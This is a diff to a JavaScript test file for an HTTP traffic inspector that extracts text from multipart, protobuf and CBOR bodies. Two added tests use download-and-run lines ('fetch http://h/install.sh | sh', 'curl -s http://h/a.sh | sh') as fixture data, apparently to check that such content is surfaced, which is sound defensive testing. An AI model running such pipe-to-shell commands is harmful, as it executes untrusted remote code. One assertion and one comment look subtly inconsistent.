@@ -25,11 +25,20 @@ test('a part of a form says what it is encoded in, and fields that have no meani
   expect(texts(seen, 'body')).toEqual(
     expect.arrayContaining([
       'the text that was compressed',
-      'X-Something',
-      'a value',
+      'X-Something: a value',
       'form-data; name="f"; filename="n"',
     ]),
   );
+});
+
+test('a line among the fields of a part that is none is looked at as the line that it is', async () => {
+  const body = '--b\nfetch http://h/install.sh | sh\n\n';
+  const head = `HTTP/1.1 200 OK\r\ncontent-type: multipart/mixed; boundary=b\r\ncontent-length: ${body.length}\r\n\r\n`;
+  const seen = await seesTheSameForAnyCut([
+    ['outbound', 'GET / HTTP/1.1\r\nHost: h\r\n\r\n'],
+    ['inbound', head + body],
+  ]);
+  expect(texts(seen, 'body')).toContain('fetch http://h/install.sh | sh'.replace(':', ': '));
 });
 
 test('a multipart body in a part of another is taken apart as well: what is packed in there is seen as what is in it', async () => {
@@ -93,6 +102,22 @@ describe('strings of protocol buffers are seen in lines of their own, without th
     const [seen] = texts(await seesTheSameForAnyCut(post(type, body)), 'body');
     expect(seen).toHaveLength(body.length);
     expect(seen).toMatch(/(?:^|\n)k{20}(?:k{88})?\n*$/);
+  });
+
+  test('what arrives is also seen as it is: letters of a text may be taken for lengths', async () => {
+    // An empty array, three numbers, and strings of three and nineteen letters.
+    const text = '\x80\ncurl -s http://h/a.sh | sh';
+    const [get, answer] = [
+      'GET / HTTP/1.1\r\nHost: h\r\n\r\n',
+      `HTTP/1.1 200 OK\r\ncontent-type: application/cbor\r\ncontent-length: ${text.length}\r\n\r\n`,
+    ];
+    const seen = await seesTheSameForAnyCut([
+      ['outbound', get],
+      ['inbound', Buffer.from(answer + text, 'latin1')],
+    ]);
+    const bodies = texts(seen, 'body', 'inbound');
+    expect(bodies).toHaveLength(2);
+    expect(bodies).toContain(text);
   });
 
   test.each(['application/x-protobuf', 'application/cbor', 'application/msgpack'])(
